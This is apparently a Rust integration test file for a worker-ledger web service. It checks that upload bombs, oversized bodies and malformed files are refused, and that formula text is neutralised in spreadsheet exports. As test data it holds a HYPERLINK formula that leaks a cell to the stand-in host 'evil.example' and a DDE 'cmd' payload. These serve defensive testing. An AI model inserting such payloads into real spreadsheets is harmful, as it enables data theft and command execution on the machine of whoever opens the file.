//! Hostile files and bodies (#11): each gets a clear 4xx JSON error with a
//! stable code and writes nothing; text that a spreadsheet would run as a
//! formula is neutralised in every export. Fixtures: tests/fixtures/hostile/
//! (regenerate with `python3 tests/fixtures/hostile/make.py`).
#![allow(clippy::unwrap_used, clippy::expect_used)] // test code

use calamine::Reader;
use qianlink_tests::{TestApp, id_number, json, worker_json};
use serde_json::json;

const ANLONG: &str = "522328";

fn fixture(name: &str) -> Vec<u8> {
    std::fs::read(format!("{}/fixtures/hostile/{name}", env!("CARGO_MANIFEST_DIR"))).unwrap()
}

async fn upload(app: &TestApp, key: &str, path: &str, name: &str, bytes: Vec<u8>) -> reqwest::Response {
    let form =
        reqwest::multipart::Form::new().part("file", reqwest::multipart::Part::bytes(bytes).file_name(name.to_owned()));
    app.post_as(key, path).multipart(form).send().await.unwrap()
}

/// The status and error code of a refused request.
async fn refused(res: reqwest::Response) -> (u16, String, String) {
    let status = res.status().as_u16();
    let v = json(res).await;
    (
        status,
        v["error"]["code"].as_str().unwrap_or("").to_owned(),
        v["error"]["message"].as_str().unwrap_or("").to_owned(),
    )
}

/// What the uploads could have written.
fn written(app: &TestApp) -> [i64; 4] {
    [
        app.count("workers"),
        app.count("households"),
        app.count("monitoring_responses"),
        app.count("demand_list_versions"),
    ]
}

#[tokio::test]
async fn bombs_huge_sheets_broken_text_and_oversized_bodies_are_refused_and_write_nothing() {
    let app = TestApp::spawn().await;
    let (_, county) = app.org("安龙县就业局", "county_office", Some(ANLONG)).await;
    let (team_id, team) = app.org("东莞市东西部协作工作队", "coop_team", None).await;
    app.link_team(&team_id, "441900").await;
    let period = chrono::Utc::now().format("%Y-%m").to_string();
    let res = app.post_as(&county, "/v1/monitoring-rounds").json(&json!({"period": period})).send().await.unwrap();
    assert_eq!(res.status(), 201);
    let year = chrono::Datelike::year(&chrono::Utc::now()) + 1;
    let before = written(&app);
    let imports = [
        (county.clone(), "/v1/workers/import".to_owned()),
        (county.clone(), format!("/v1/monitoring-rounds/{period}/responses/import")),
        (team.clone(), format!("/v1/demand-lists/{year}/import")),
    ];
    let mut refusals = 0;
    for (key, path) in &imports {
        // A zip bomb whose headers tell the truth, and one whose headers lie.
        for bomb in ["bomb.xlsx", "lying_bomb.xlsx"] {
            let started = std::time::Instant::now();
            let (status, code, message) = refused(upload(&app, key, path, bomb, fixture(bomb)).await).await;
            // Refused for what it unpacks to, before any XML is parsed; the liar
            // as soon as a part inflates past the size its header claims.
            if bomb == "bomb.xlsx" {
                assert_eq!((status, code.as_str()), (413, "payload_too_large"), "{path}: {message}");
                assert!(message.contains("unpacks to more than 256 MiB"), "{message}");
            } else {
                assert_eq!((status, code.as_str()), (400, "malformed_upload"), "{path}: {message}");
                assert!(message.contains("larger than its declared"), "{message}");
            }
            assert!(
                started.elapsed() < std::time::Duration::from_secs(30),
                "{path} {bomb} took {:?}",
                started.elapsed()
            );
            refusals += 1;
        }
        // A valid workbook of a million rows: refused at the row limit, not loaded whole.
        let (status, code, message) =
            refused(upload(&app, key, path, "million_rows.xlsx", fixture("million_rows.xlsx")).await).await;
        assert_eq!((status, code.as_str()), (413, "payload_too_large"), "{path}: {message}");
        assert!(message.contains("100000"), "{message}");
        refusals += 1;
        // 20 MiB + 1 byte.
        let big = vec![b'a'; 20 * 1024 * 1024 + 1];
        let (status, code, _) = refused(upload(&app, key, path, "big.csv", big).await).await;
        assert_eq!((status, code.as_str()), (413, "payload_too_large"), "{path}");
        refusals += 1;
    }
    // A CSV that starts as UTF-8 and breaks on its third row (GBK bytes).
    let header = "身份证号,姓名,手机号,户编号,安置点,县级代码,人员类别,技能,文化程度,毕业年份,就业状态,愿意跨省务工";
    let row = |seq: u32, name: &str| {
        let idn = id_number(ANLONG, "19900101", seq);
        format!(
            "{idn},{name},139{},HH-{seq},碧海阳光新城,{ANLONG},搬迁劳动力,电焊,初中,,未就业,是",
            &idn[10..18].replace('X', "0")
        )
    };
    let mut csv = format!("{header}\n{}\n{}\n", row(101, "张三"), row(102, "李四")).into_bytes();
    csv.extend_from_slice(&[0xd5, 0xc5, 0xc8, 0xfd]);
    csv.extend_from_slice(row(103, "").as_bytes());
    let (status, code, _) = refused(upload(&app, &county, "/v1/workers/import", "ledger.csv", csv).await).await;
    assert_eq!((status, code.as_str()), (400, "malformed_upload"));
    refusals += 1;
    // Duplicate headers in a workbook (the CSV case is in api_ledger).
    let mut wb = rust_xlsxwriter::Workbook::new();
    let ws = wb.add_worksheet();
    for (c, h) in header.split(',').chain(["姓名"]).enumerate() {
        ws.write_string(0, c as u16, h).unwrap();
    }
    for (c, v) in row(104, "王五").split(',').chain(["王六"]).enumerate() {
        ws.write_string(1, c as u16, v).unwrap();
    }
    let bytes = wb.save_to_buffer().unwrap();
    let res = upload(&app, &county, "/v1/workers/import", "ledger.xlsx", bytes).await;
    let (status, code, _) = refused(res).await;
    assert_eq!((status, code.as_str()), (422, "import_rejected"));
    refusals += 1;
    // A JSON body over its limit.
    let huge = json!({"title": "x".repeat(2 * 1024 * 1024)});
    let (status, code, _) = refused(app.post_as(&team, "/v1/jobs").json(&huge).send().await.unwrap()).await;
    assert_eq!((status, code.as_str()), (413, "payload_too_large"));
    refusals += 1;
    assert_eq!(written(&app), before, "nothing was written");
    eprintln!("hostile files: {refusals} refused, nothing written");
}

#[tokio::test]
async fn formulas_typed_into_the_ledger_are_neutralised_and_ids_masked_in_every_export() {
    let app = TestApp::spawn().await;
    let (_, county) = app.org("安龙县就业局", "county_office", Some(ANLONG)).await;
    let hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")";
    let mut w = worker_json(&id_number(ANLONG, "19900101", 101), ANLONG, "HH-1", "unemployed");
    w["name"] = hostile.into();
    w["resettlement_site"] = "+cmd|' /C calc'!A0".into();
    w["skills"] = json!(["@SUM(1+1)", "-2+3"]);
    let res = app.post_as(&county, "/v1/workers").json(&w).send().await.unwrap();
    assert_eq!(res.status(), 201, "{}", res.text().await.unwrap());
    let worker = json(app.get_as(&county, "/v1/workers").send().await.unwrap()).await["items"][0]["id"].clone();
    // A monitoring round where the worker does not answer: the report lists them by name.
    let period = chrono::Utc::now().format("%Y-%m").to_string();
    let res = app.post_as(&county, "/v1/monitoring-rounds").json(&json!({"period": period})).send().await.unwrap();
    assert_eq!(res.status(), 201);
    let mut checked = 0;
    for path in [
        format!("/v1/workers/export.xlsx?county_code={ANLONG}"),
        format!("/v1/monitoring-rounds/{period}/report.xlsx?county_code={ANLONG}"),
    ] {
        let res = app.get_as(&county, &path).send().await.unwrap();
        assert_eq!(res.status(), 200, "{path}");
        let bytes = res.bytes().await.unwrap().to_vec();
        let mut wb: calamine::Xlsx<_> = calamine::open_workbook_from_rs(std::io::Cursor::new(bytes)).unwrap();
        let mut found = false;
        for name in wb.sheet_names() {
            let range = wb.worksheet_range(&name).unwrap();
            for cell in range.used_cells() {
                let text = cell.2.to_string();
                assert!(!text.starts_with(['=', '+', '-', '@']), "{path} {name}: a cell starts like a formula: {text}");
                // Only masked ID and phone numbers leave in workbooks.
                assert_eq!(qianlink_tests::pii::find(&text), None, "{path} {name}");
                if text.contains("HYPERLINK") {
                    assert_eq!(text, format!("'{hostile}"), "{path}");
                    found = true;
                }
            }
            let formulas = wb.worksheet_formula(&name).unwrap();
            assert!(formulas.used_cells().all(|c| c.2.is_empty()), "{path} {name} has formulas");
        }
        assert!(found, "{path} shows the name, neutralised");
        checked += 1;
    }
    assert_eq!(checked, 2);
    assert!(worker.is_string());
}
